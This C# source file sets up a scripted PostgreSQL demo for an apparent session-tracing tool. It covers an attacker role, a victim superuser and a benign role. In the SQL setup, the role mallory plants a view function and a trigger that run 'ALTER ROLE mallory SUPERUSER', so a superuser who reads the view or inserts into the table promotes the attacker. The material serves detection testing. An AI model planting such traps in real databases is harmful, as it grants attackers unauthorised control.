namespace TraceLab.Cli.Demo;

/// <summary>The scripted demo: one attacker, one victim superuser, one benign role, in their own database.</summary>
/// <remarks>
/// mallory owns a view whose function and a table whose trigger both run <c>ALTER ROLE mallory SUPERUSER</c>.
/// alice, a superuser, only reads the view and inserts into the table, and so makes mallory a superuser twice.
/// bob's own function creates a table in bob's own schema: the kind of DDL a good policy must keep allowing.
/// </remarks>
internal static class DemoScenario
{
    public const string Database = "tracelab_demo";

    /// <summary>Run by the bootstrap superuser in database postgres, unrecorded: a clean slate on every run.</summary>
    public static readonly string[] Reset =
    [
        $"DROP DATABASE IF EXISTS {Database} WITH (FORCE)",
        "DROP ROLE IF EXISTS alice",
        "DROP ROLE IF EXISTS mallory",
        "DROP ROLE IF EXISTS bob",
        "CREATE ROLE alice LOGIN SUPERUSER",
        "CREATE ROLE mallory LOGIN",
        "CREATE ROLE bob LOGIN",
        $"CREATE DATABASE {Database}",
    ];

    /// <summary>Run by the bootstrap superuser in the demo database, unrecorded: the attacker's and bob's objects.</summary>
    public const string Setup = """
        CREATE SCHEMA mallory AUTHORIZATION mallory;
        CREATE SCHEMA bob AUTHORIZATION bob;
        GRANT USAGE ON SCHEMA mallory TO PUBLIC;

        SET ROLE mallory;
        CREATE FUNCTION mallory.f_evil(i integer) RETURNS integer LANGUAGE plpgsql AS $$
        BEGIN
            EXECUTE 'ALTER ROLE mallory SUPERUSER';
            RETURN i;
        END $$;
        CREATE TABLE mallory.t_data(id integer);
        INSERT INTO mallory.t_data VALUES (1);
        CREATE VIEW mallory.v_inner AS SELECT id, mallory.f_evil(id) AS checked FROM mallory.t_data;
        CREATE VIEW mallory.v_bait AS SELECT * FROM mallory.v_inner;
        GRANT SELECT ON mallory.v_bait TO PUBLIC;

        CREATE TABLE mallory.t_orders(id integer, note text);
        CREATE FUNCTION mallory.trg_audit() RETURNS trigger LANGUAGE plpgsql AS $$
        BEGIN
            EXECUTE 'ALTER ROLE mallory SUPERUSER';
            RETURN NEW;
        END $$;
        CREATE TRIGGER trg_orders BEFORE INSERT ON mallory.t_orders
            FOR EACH ROW EXECUTE FUNCTION mallory.trg_audit();
        GRANT INSERT ON mallory.t_orders TO PUBLIC;
        RESET ROLE;

        SET ROLE bob;
        CREATE FUNCTION bob.refresh_summary() RETURNS void LANGUAGE plpgsql AS $$
        BEGIN
            EXECUTE 'CREATE TABLE IF NOT EXISTS bob.summary(n integer)';
        END $$;
        RESET ROLE;
        """;

    /// <summary>Undoes what an attack session did, so the next one starts from an ordinary mallory.</summary>
    public const string Demote = "ALTER ROLE mallory NOSUPERUSER";

    /// <summary>The recorded sessions, in the order they run.</summary>
    public static readonly DemoSession[] Sessions =
    [
        new("attack-view", "alice", "SELECT * FROM mallory.v_bait", IsAttack: true),
        new("attack-trigger", "alice", "INSERT INTO mallory.t_orders VALUES (1, 'first order')", IsAttack: true),
        new("benign", "bob", "SELECT bob.refresh_summary()", IsAttack: false),
    ];
}

/// <summary>One recorded demo session: a real login as <paramref name="Role"/> running <paramref name="Sql"/>.</summary>
internal sealed record DemoSession(string Name, string Role, string Sql, bool IsAttack)
{
    /// <summary>The application_name the session carries, so it can be recognised among recorded sessions.</summary>
    public string ApplicationName => "tracelab-demo:" + Name;
}
